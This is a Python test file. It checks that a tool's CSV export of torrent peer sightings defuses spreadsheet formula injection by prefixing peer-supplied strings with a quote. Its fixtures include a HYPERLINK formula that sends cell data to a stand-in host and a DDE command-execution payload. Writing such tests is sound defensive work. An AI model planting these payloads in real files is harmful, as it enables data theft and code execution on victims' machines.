"""Sightings exported as CSV carry peer-supplied strings: none may run in a spreadsheet."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

from sqlalchemy import Engine

from atalaya.observe.sightings import SightingWriter, iter_export_rows, write_csv
from tests.observe.test_sightings import make

HYPERLINK = '=HYPERLINK("http://x.example/?"&B2&C2, "open")'


def test_peer_supplied_formulas_are_neutralised(engine: Engine) -> None:
    SightingWriter(engine).write(
        [
            replace(make("127.0.0.5"), client=HYPERLINK, advertised_name="@SUM(1+1)"),
            replace(make("127.0.0.6"), client="-cmd|' /C calc'!A0", advertised_name="\t=1+1"),
            replace(make("127.0.0.7"), advertised_name="holiday.mkv"),
        ]
    )
    buf = io.StringIO()
    assert write_csv(iter_export_rows(engine), buf) == 3
    rows = list(csv.DictReader(io.StringIO(buf.getvalue())))
    assert [(r["client"], r["advertised_name"]) for r in rows] == [
        ("'" + HYPERLINK, "'@SUM(1+1)"),
        ("'-cmd|' /C calc'!A0", "'\t=1+1"),
        ("libtorrent/2.1.1", "holiday.mkv"),
    ]
